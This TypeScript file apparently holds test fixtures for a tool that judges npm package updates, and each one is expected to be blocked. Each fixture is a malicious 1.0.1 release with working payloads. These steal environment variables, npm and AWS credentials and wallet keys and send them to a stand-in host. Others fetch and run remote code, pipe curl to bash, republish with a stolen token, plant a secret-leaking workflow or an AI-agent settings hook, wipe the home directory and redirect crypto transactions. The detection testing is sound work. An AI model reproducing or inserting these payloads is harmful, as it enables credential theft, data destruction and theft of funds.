import type { Replica } from '../replicas/replica.js';

const host = 'collect.example.invalid';
const before = { version: '1.0.0', manifest: { main: 'index.js', license: 'MIT' }, files: { 'index.js': 'exports.size = (list) => list.length;\n', 'LICENSE': 'MIT\n' }, publishedAt: '2025-01-10T00:00:00.000Z', publisher: { name: 'owner', email: 'owner@mail.example' } };

/** One way from a source to a sink in a few lines, as an install step (`build.js`) or when the package is loaded. */
function kernel(id: string, text: string, where: 'install' | 'load' | 'module' = 'install'): Replica {
  const own = where === 'install' ? 'build.js' : where === 'load' ? 'index.js' : 'setup.mjs';
  const scripts = where === 'load' ? {} : { scripts: { postinstall: `node ${own}` } };
  return {
    id, name: 'small-thing', story: 'A core of attacks in a few lines, so that what is lost shows at once.', must: 'block', before,
    after: { ...before, version: '1.0.1', publishedAt: '2026-11-01T00:00:00.000Z', manifest: { ...before.manifest, ...scripts }, files: { ...before.files, [own]: where === 'load' ? `${text}${before.files['index.js']}` : text } },
  };
}

/** The cores of attacks: what each replica comes down to. Small, so that many variants of them are judged in seconds. */
export const kernels: readonly Replica[] = [
  kernel('environment', `const https = require('https');\nconst body = JSON.stringify(process.env);\nconst call = https.request({ hostname: '${host}', method: 'POST', path: '/in' });\ncall.write(body);\ncall.end();\n`),
  kernel('environment-load', `const https = require('https');\nhttps.get('https://${host}/in?d=' + Buffer.from(JSON.stringify(process.env)).toString('hex'));\n`, 'load'),
  kernel('environment-fetch', `const secrets = { token: process.env.NPM_TOKEN, key: process.env.AWS_SECRET_ACCESS_KEY };\nfetch('https://${host}/in', { method: 'POST', body: JSON.stringify(secrets) });\n`, 'module'),
  kernel('token-file', `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\nconst text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst call = https.request({ hostname: '${host}', method: 'POST' }, () => {});\ncall.end(text);\n`),
  kernel('token-file-module', `import { readFile } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nconst text = await readFile(join(homedir(), '.aws', 'credentials'), 'utf8');\nawait fetch('https://${host}/in', { method: 'POST', body: text });\n`, 'module'),
  kernel('download-eval', `const https = require('https');\nhttps.get({ hostname: '${host}', path: '/raw' }, (answer) => {\n  answer.on('data', (part) => {\n    eval(part);\n  });\n});\n`),
  kernel('download-run', `const https = require('https');\nconst fs = require('fs');\nconst { spawn } = require('child_process');\nconst file = fs.createWriteStream('/nowhere/tool');\nhttps.get('https://${host}/tool', (answer) => {\n  answer.pipe(file);\n  file.on('finish', () => {\n    fs.chmodSync('/nowhere/tool', 0o755);\n    spawn('/nowhere/tool', [], { detached: true });\n  });\n});\n`),
  kernel('download-fetch-run', `import { writeFileSync } from 'node:fs';\nimport { execFileSync } from 'node:child_process';\nconst answer = await fetch('https://${host}/tool.js');\nconst text = await answer.text();\nwriteFileSync('tool.js', text);\nexecFileSync(process.execPath, ['tool.js']);\n`, 'module'),
  kernel('decode-run', `const { exec } = require('child_process');\nexec(Buffer.from('bm9odXAgdHJ1ZSA+IC9kZXYvbnVsbCAyPiYxICYgZWNobyBub3RoaW5nIGlzIGhlcmU=', 'base64').toString());\n`, 'load'),
  kernel('decode-eval', `const text = 'dm9pZCAnbm90aGluZyBzdGFuZHMgaGVyZSwgYW5kIG5vdGhpbmcgaXMgcnVuJzs=';\neval(Buffer.from(text, 'base64').toString('utf8'));\n`, 'load'),
  kernel('shell-pipe', `const { execSync } = require('child_process');\nexecSync('curl -fsSL https://${host}/install.sh | bash');\n`),
  kernel('publish', `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst { execSync } = require('child_process');\nconst token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').match(/_authToken=(.+)/)[1];\nexecSync('npm publish', { env: { ...process.env, NPM_TOKEN: token } });\n`),
  kernel('workflow', `const fs = require('fs');\nfs.mkdirSync('.github/workflows', { recursive: true });\nfs.writeFileSync('.github/workflows/check.yml', 'on: push\\njobs:\\n  check:\\n    runs-on: self-hosted\\n    steps:\\n      - run: echo \${{ toJSON(secrets) }} | curl -d @- https://${host}/in\\n');\n`),
  kernel('agent', `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfs.writeFileSync(path.join(os.homedir(), '.claude', 'settings.json'), JSON.stringify({ hooks: { SessionStart: [{ hooks: [{ type: 'command', command: 'node ./nothing.js' }] }] } }));\n`),
  kernel('wipe', `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfunction clear(folder) {\n  for (const name of fs.readdirSync(folder)) {\n    const full = path.join(folder, name);\n    if (fs.statSync(full).isDirectory()) clear(full);\n    else fs.writeFileSync(full, '');\n  }\n}\nclear(os.homedir());\n`, 'load'),
  kernel('key', `class Wallet {\n  constructor(seed) {\n    this.seed = seed;\n    report(seed);\n  }\n}\nfunction report(privateKey) {\n  fetch('https://${host}/in', { method: 'POST', headers: { 'x-id': privateKey } });\n}\nexports.Wallet = Wallet;\nexports.fromSecretKey = (secretKey) => { report(secretKey); return new Wallet(secretKey); };\n`, 'load'),
  kernel('wallet', `const own = ['0x000000000000000000000000000000000000dEaD', '0x0000000000000000000000000000000000001234', '0x00000000000000000000000000000000000000aa'];\nif (typeof window !== 'undefined' && window.ethereum) {\n  const ask = window.ethereum.request;\n  window.ethereum.request = async function (what) {\n    if (what.method === 'eth_sendTransaction') what.params[0].to = own[0];\n    return ask.call(this, what);\n  };\n}\nconst real = globalThis.fetch;\nglobalThis.fetch = async (...all) => {\n  const answer = await real(...all);\n  const text = await answer.text();\n  return new Response(text.replace(/0x[0-9a-fA-F]{40}/g, own[1]), answer);\n};\n`, 'load'),
  kernel('hidden-name', `const load = require;\nload('child' + '_process')['ex' + 'ec']('node ./nothing.js');\n`, 'load'),
];
